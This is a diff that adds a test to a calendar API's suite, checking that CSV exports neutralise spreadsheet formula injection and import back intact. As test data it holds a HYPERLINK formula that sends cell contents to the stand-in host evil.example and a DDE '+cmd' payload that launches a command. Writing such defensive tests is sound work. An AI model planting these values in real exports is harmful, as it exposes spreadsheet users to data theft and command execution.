@@ -363,3 +363,30 @@ def test_a_file_too_deep_or_with_a_huge_number_is_a_422_naming_each_bad_line(api
         )
     assert api.viewer.get("/calendars/evilcal").json()["overrides"] == 0
     assert api.viewer.get("/calendar-notices/2031").json()["days"] == 0
+
+
+def test_a_csv_export_holds_no_formula_and_imports_back_as_it_was(api: Api) -> None:
+    """An audit: a note ``=HYPERLINK(...)`` or ``+cmd|...`` was exported as it is, a
+    formula to the viewer who opens the export in a spreadsheet."""
+    notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"]
+    notes += ["-1 day shift", "@SUM(A1)", "'=quoted", "plain"]
+    overrides = [
+        {"date": f"2032-03-{n + 1:02d}", "open": False, "note": note}
+        for n, note in enumerate(notes)
+    ]
+    body = {"base": "none", "overrides": overrides, "expected_version": 0}
+    assert api.admin.put("/calendars/formulas", json=body).is_success
+    exported = api.viewer.get("/calendars/formulas/export?format=csv").text
+    assert exported.splitlines()[1:] == [
+        '2032-03-01,closed,extra_closed,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+        "2032-03-02,closed,extra_closed,'+cmd|' /C calc'!A0",
+        "2032-03-03,closed,extra_closed,'-1 day shift",
+        "2032-03-04,closed,extra_closed,'@SUM(A1)",
+        "2032-03-05,closed,extra_closed,''=quoted",
+        "2032-03-06,closed,extra_closed,plain",
+    ]
+    assert api.admin.put("/calendars/copy", json={"base": "none", "expected_version": 0}).is_success
+    imported = api.admin.post("/calendars/copy/import", json={"format": "csv", "text": exported})
+    assert imported.status_code == 200, imported.text
+    copied = api.viewer.get("/calendars/copy").json()["override_list"]
+    assert [o["note"] for o in copied] == notes
